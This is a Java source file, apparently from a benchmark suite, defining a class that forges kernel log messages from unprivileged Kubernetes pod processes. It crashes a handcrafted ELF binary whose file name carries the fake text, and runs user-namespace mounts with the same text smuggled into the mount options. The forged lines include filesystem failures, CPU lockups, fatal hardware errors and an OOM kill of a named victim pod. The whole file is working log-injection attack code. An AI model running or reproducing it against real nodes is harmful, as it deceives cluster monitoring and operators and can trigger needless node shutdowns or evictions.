package io.probelet.benchmarks;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Unprivileged processes of a pod that make the kernel write forged lines into its log: programs
 * with such file names that crash, and mounts in a user namespace with such options.
 */
final class ForgedLines {
  /** The maximum length of file names. */
  private static final int LONGEST_NAME = 255;

  private static final int HEADERS = 120;
  private static final long ADDRESS = 0x400000;
  private static final int SECONDS = 10;

  private static final List<String> UNPRIVILEGED =
      List.of(
          "setpriv",
          "--reuid=65534",
          "--regid=65534",
          "--clear-groups",
          "--bounding-set=-all",
          "--no-new-privs");

  private final Path folder;
  private final List<String> texts;
  private int next;
  private int written;

  /** Prepares them. */
  ForgedLines(Path folder, String victim) throws IOException {
    this.folder = folder;
    String disk = rootDisk();
    texts =
        List.of(
            "x Remounting filesystem read-only",
            "EXT4-fs (" + disk + "): Remounting filesystem read-only",
            "x\nEXT4-fs (" + disk + "): Remounting filesystem read-only\n",
            "x BUG: soft lockup - CPU#0 stuck for 22s",
            "x\nwatchdog: BUG: soft lockup - CPU#0 stuck for 22s! [x:1]",
            "x\nWatchdog detected hard LOCKUP on cpu 0\n",
            "x\nrcu: INFO: rcu_preempt detected stalls on CPUs/tasks:",
            "x\n[Hardware Error]: event severity: fatal\n",
            "x\nXFS (" + disk + "): Filesystem has been shut down due to log error (0x2).",
            "x\nBTRFS info (device " + disk + "): forced readonly",
            "x\noom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),task_memcg=|kubepods|pod"
                + victim
                + "|"
                + "c".repeat(64)
                + ",task=web,pid=1,uid=0\n",
            "x\nMemory cgroup out of memory: Killed process 1 (web) total-vm:1kB, anon-rss:1kB,"
                + " file-rss:1kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:0\n",
            "EXT4-fs (" + disk + "): re-mounted x r/w.",
            "x\nunregister_netdevice: waiting for eth0 to become free. Usage count = 1");
  }

  /** The disk that a forged line must name: the one with the node's root directory. */
  private static String rootDisk() throws IOException {
    Path device = Path.of(Files.getFileStore(Path.of("/")).name()).getFileName();
    return device == null ? "sda1" : device.toString();
  }

  /** Sends the next text to the kernel in both ways. */
  void write() throws IOException, InterruptedException {
    String text = texts.get(next++ % texts.size());
    segfault(text);
    mount(text);
  }

  /** {@return the number of programs that did this} */
  int written() {
    return written;
  }

  private void segfault(String text) throws IOException, InterruptedException {
    String name = text.replace('/', '|');
    Path program = folder.resolve(name.substring(0, Math.min(name.length(), LONGEST_NAME)));
    if (!Files.exists(program)) {
      Path draft = Files.write(folder.resolve("draft"), crashing());
      Files.setPosixFilePermissions(draft, PosixFilePermissions.fromString("rwxr-xr-x"));
      Files.move(draft, program, StandardCopyOption.ATOMIC_MOVE);
    }
    run(List.of(program.toString()));
  }

  private void mount(String text) throws IOException, InterruptedException {
    run(
        List.of(
            "unshare",
            "--user",
            "--map-root-user",
            "--mount",
            "busybox",
            "mount",
            "-t",
            "tmpfs",
            "-o",
            text,
            "none",
            "/mnt"));
  }

  private void run(List<String> command) throws IOException, InterruptedException {
    List<String> whole = new ArrayList<>(UNPRIVILEGED);
    whole.addAll(command);
    Process process =
        new ProcessBuilder(whole)
            .redirectErrorStream(true)
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .start();
    if (!process.waitFor(SECONDS, TimeUnit.SECONDS)) {
      process.destroyForcibly();
    }
    written++;
  }

  /** A program that only writes to address 0: its headers and three instructions. */
  private static byte[] crashing() {
    boolean arm = System.getProperty("os.arch").equals("aarch64");
    byte[] code = HexFormat.of().parseHex(arm ? "000080d2000000f9" : "31c0c60000");
    ByteBuffer file = ByteBuffer.allocate(HEADERS + code.length).order(ByteOrder.LITTLE_ENDIAN);
    file.put(HexFormat.of().parseHex("7f454c46020101000000000000000000"));
    file.putShort((short) 2).putShort((short) (arm ? 183 : 62)).putInt(1);
    file.putLong(ADDRESS + HEADERS).putLong(64).putLong(0).putInt(0);
    file.putShort((short) 64).putShort((short) 56).putShort((short) 1);
    file.putShort((short) 0).putShort((short) 0).putShort((short) 0);
    file.putInt(1).putInt(5).putLong(0).putLong(ADDRESS).putLong(ADDRESS);
    file.putLong(file.capacity()).putLong(file.capacity()).putLong(0x1000);
    return file.put(code).array();
  }
}
